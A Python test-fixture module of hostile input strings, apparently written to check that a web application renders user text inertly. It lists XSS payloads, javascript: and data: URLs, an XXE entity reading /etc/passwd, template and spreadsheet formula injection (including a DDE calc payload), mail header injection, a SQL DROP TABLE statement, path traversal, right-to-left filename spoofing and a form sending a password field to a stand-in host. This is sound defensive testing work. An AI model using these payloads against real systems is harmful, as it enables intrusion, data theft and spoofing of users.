"""Texts that try to be more than text: to run, to load, to lead away, to be a formula, to hide or turn what stands near.

One list, for every test that asks whether words stay words. `xseed` is in whatever must never run; each
test puts a mark of its own in front, to know its words again.
"""

from __future__ import annotations

from dataclasses import dataclass

PROBE = "xseed"
"""Its name as an element, an attribute or a function says that a text came alive."""


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    may_change: bool = False
    """Whether it holds characters that no form keeps."""


TEXTS = [
    Hostile("a script", "<script>xseed('script')</script>"),
    Hostile("a script out of every other place", "'\"--></script></style></title></textarea></template><xseed xseed=1>"),
    Hostile("a picture that fails", "<img src=x onerror=xseed('img')>"),
    Hostile("an attribute, double quotes", '" onmouseover="xseed(1)" autofocus onfocus="xseed(2)" x="'),
    Hostile("an attribute, single quotes", "' onmouseover='xseed(3)' autofocus onfocus='xseed(4)' x='"),
    Hostile("an attribute, no quotes", "x onfocus=xseed(5) autofocus tabindex=1"),
    Hostile("an svg", "<svg/onload=xseed('svg')><animate onbegin=xseed('svg') attributeName=x /><set onbegin=xseed() /></svg>"),
    Hostile("an svg with a foreign page", "<svg><foreignObject><iframe srcdoc='<script>xseed()</script>'></iframe></foreignObject></svg>"),
    Hostile("mathematics", "<math><mtext><table><mglyph><style><img src=x onerror=xseed('math')></style></mglyph></table></mtext></math>"),
    Hostile("a comment left open", "<!--><img src=x onerror=xseed('comment')>--><!--"),
    Hostile("markup that is not closed", "<a href='javascript:xseed()' <b <i style=x:expression(xseed())"),
    Hostile("cdata", "]]><xseed/><![CDATA["),
    Hostile("an entity", "<!DOCTYPE x [<!ENTITY xseed SYSTEM 'file:///etc/passwd'>]>&xseed;"),
    Hostile("entities", "&lt;script&gt;xseed()&lt;/script&gt; &#60;img src=x onerror=xseed()&#62; &amp;lt;"),
    Hostile("a javascript address", "javascript:xseed('address')//"),
    Hostile("a javascript address in disguise", " JaVa\tScRiPt:xseed('address')//"),
    Hostile("a data address", "data:text/html,<script>xseed('data')</script>"),
    Hostile("links of other languages", "[x](javascript:xseed()) <javascript:xseed()> [[http://xseed.example]] <http://xseed.example>"),
    Hostile("a form that sends elsewhere", "<form action=//xseed.example><input name=password><button formaction=//xseed.example>"),
    Hostile("what loads from elsewhere", "<link rel=stylesheet href=//xseed.example/x.css><base href=//xseed.example/><meta http-equiv=refresh content='0;url=//xseed.example'>"),
    Hostile("a style", "<style>*{background:url(//xseed.example/x)}</style><p style='position:fixed;inset:0'>"),
    Hostile("a template", "{{ 7|add:7 }}{% debug %}${7*7}<%= 7*7 %>#{7*7}"),
    Hostile("a format", "%s %(xseed)s {0} {xseed.__class__} %n%x"),
    Hostile("a formula", "=HYPERLINK(\"http://xseed.example\",\"xseed\")"),
    Hostile("a formula by a sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("a formula by a plus", "+1+1+xseed"),
    Hostile("a formula by a minus", "-1+1+xseed"),
    Hostile("a formula behind a tab", "\t=1+1+xseed"),
    Hostile("a header", "xseed\r\nBcc: xseed@example.org\r\n\r\n<b>xseed</b>"),
    Hostile("a statement", "'; DROP TABLE people_person; --"),
    Hostile("a way up", "../../../../etc/passwd%00.png"),
    Hostile("right to left", "photo\u202egnp.exe", may_change=True),
    Hostile("an isolate left open", "\u2067left open"),
    Hostile("Arabic", "مكان للقاء بعد الرابعة"),
    Hostile("Hebrew and figures", "מקום 2026 (פתוח)"),
    Hostile("zero width", "zero\u200bwidth\u2060word\ufeff"),
    Hostile("a soft hyphen and tags", "soft\u00adhyphen\U000e0068\U000e0069"),
    Hostile("line ends of other kinds", "one\u2028two\u2029three"),
    Hostile("control characters", "bell\x07 escape\x1b[31m back\x08 nul\x00", may_change=True),
    Hostile("never a letter", "\ufdd0\uffff", may_change=True),
    Hostile("emoji", "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f 💩 ☃\ufe0f"),
    Hostile("letters under letters", "Z" + "\u0335\u0321\u0353" * 12 + "a"),
]  # fmt: skip
"""In each, what a browser, a spreadsheet, a mail program, a shell, a database or an eye may take for more than words."""

LONGEST_WORD = "W" * 100_000
INVISIBLE = ["\u200b\u200b", "\u2060\ufeff", "\u00ad", "\u3164", "\u2800\u2800", "\u202e", "\u034f"]
"""Texts in which there is nothing to see: a name or a title of these is no name."""

FILE_NAMES = [
    '"><img src=x onerror=xseed()>.png',
    "a'; filename*=UTF-8''xseed.html; x='.png",
    "line\r\nX-Xseed: 1\r\n\r\n<script>.png",
    "photo\u202egnp.exe.png",
    "../../xseed/passwd.png",
    "=cmd|xseed.png",
    "мапа 🗺 خريطة.png",
    "n" * 300 + ".png",
]

SHORT = "'\"><img src=x onerror=xseed()>"
MIDDLE = "'\"></script></title></textarea><img src=x onerror=xseed()> javascript:xseed() {{ 7|add:7 }} zero\u200bwidth"
TURNED = MIDDLE + "\u202e turned"
"""It holds what no form keeps: refused in words, or kept without."""


def every_text() -> str:
    """Give all of them in one text, on one line each."""
    return " ".join(each.text for each in TEXTS if not each.may_change)


END = "zqe"
"""Stands at the end of every text that is sent: what comes after it in a line is not the text's any more."""
